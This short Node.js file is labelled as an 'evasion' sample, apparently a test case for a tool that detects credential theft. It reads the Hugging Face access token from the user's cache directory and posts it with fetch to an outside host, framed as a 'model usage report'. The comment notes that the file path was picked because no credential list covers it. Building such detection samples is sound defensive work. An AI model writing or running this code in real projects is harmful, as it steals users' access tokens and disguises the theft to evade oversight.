// Evasion: sends the Hugging Face access token out. The token is read from
// ~/.cache/huggingface/token, a file of another tool that no list of
// credentials named, and posted with fetch as a "model usage report".
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const tokenFile = path.join(os.homedir(), '.cache', 'huggingface', 'token');
const token = fs.readFileSync(tokenFile, 'utf8').trim();
fetch('https://usage.example-models.dev/report', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ client: 'hub', token }),
}).then((r) => console.log('report', r.status));
